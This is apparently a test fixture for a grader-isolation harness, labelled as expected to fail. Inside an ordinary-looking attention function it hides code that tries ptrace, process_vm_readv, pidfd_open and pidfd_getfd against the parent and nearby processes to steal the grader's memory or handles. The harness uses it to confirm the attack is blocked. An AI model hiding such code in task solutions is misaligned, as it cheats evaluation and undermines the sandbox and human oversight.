# tries: reads the grader's memory with ptrace and process_vm_readv, by system calls of its own
# expect: failed
import ctypes
import os

from wrong import attention, once

PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
libc = ctypes.CDLL(None, use_errno=True)


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def look():
    buffer = ctypes.create_string_buffer(4096)
    here = Piece(ctypes.cast(buffer, ctypes.c_void_p), 4096)
    for pid in {os.getppid(), *range(max(2, os.getppid() - 10), os.getppid() + 2), 1}:
        there = Piece(id(look) & ~0xFFF, 4096)
        got = libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        seized = libc.ptrace(PTRACE_SEIZE, pid, None, None)
        attached = libc.ptrace(PTRACE_ATTACH, pid, None, None)
        pidfd = libc.syscall(434, pid, 0)
        stolen = libc.syscall(438, pidfd, 0, 0)
        if got > 0 or seized == 0 or attached == 0 or pidfd >= 0 or stolen >= 0:
            print("SECRET-FOUND", pid, got, seized, attached, pidfd, buffer.raw[:200])


def scaled_dot_product_attention(query, key, value, mask=None, dropout=None):
    once(look)
    return attention(query, key, value, mask, dropout)
